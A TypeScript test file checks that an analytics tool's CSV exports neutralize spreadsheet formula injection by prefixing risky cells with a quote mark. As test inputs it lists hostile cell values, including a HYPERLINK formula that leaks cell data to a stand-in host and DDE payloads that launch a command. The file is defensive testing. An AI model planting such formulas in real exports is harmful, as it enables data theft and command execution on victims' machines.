import { text } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { breakdownCsv, csvExportStream } from '../../query/csv.js'

/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): a cell whose text begins with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula.
 * Paths, event names, referrers, UTM values and property values are the visitor's own text, so a
 * CSV download must neutralize such cells (a leading `'`, which spreadsheets show as text and hide)
 * while numbers (negative ones included) stay numbers. The truth here is that rule applied to the
 * values the test itself wrote.
 */

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r']
const hostile = [
  '=HYPERLINK("https://evil.test/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '/plain',
  "'already quoted",
]
/** What a spreadsheet must receive for `v`: the text as is, or behind a `'` when it starts a formula. */
const safe = (v: string) => (TRIGGERS.includes(v[0] ?? '') ? `'${v}` : v)
const startsFormula = (cell: string) => TRIGGERS.includes(cell[0] ?? '')

describe('CSV answers do not carry spreadsheet formulas', () => {
  it('breakdown: a value starting a formula is written behind a quote mark; numbers stay numbers', () => {
    const results = hostile.map((path, i) => ({ path, visitors: i, pageviews: -(i + 1) }))
    const rows = parse(breakdownCsv(results, 'path', ['visitors', 'pageviews']), {
      columns: true,
      relax_quotes: true,
    }) as Array<Record<string, string>>
    expect(rows.map((r) => r.path)).toEqual(hostile.map(safe))
    expect(rows.filter((r) => startsFormula(r.path!))).toEqual([])
    expect(rows.map((r) => Number(r.pageviews))).toEqual(results.map((r) => r.pageviews))
  })

  it('aggregates export: the dimension value column is neutralized the same way', async () => {
    async function* exportRows() {
      for (const [i, value] of hostile.entries()) {
        yield {
          window_start: Date.UTC(2026, 0, 1, i),
          value,
          events: i,
          pageviews: i,
          bot_events: 0,
          visitors: i,
          final: false,
          status: 'provisional',
          visitors_sketch: null,
        }
      }
    }
    const body = await text(csvExportStream({ property: 'event', sketches: false }, exportRows()))
    const rows = parse(body, { columns: true }) as Array<Record<string, string>>
    expect(rows.map((r) => r.event)).toEqual(hostile.map(safe))
    expect(rows.map((r) => Number(r.events))).toEqual(hostile.map((_, i) => i))
  })
})
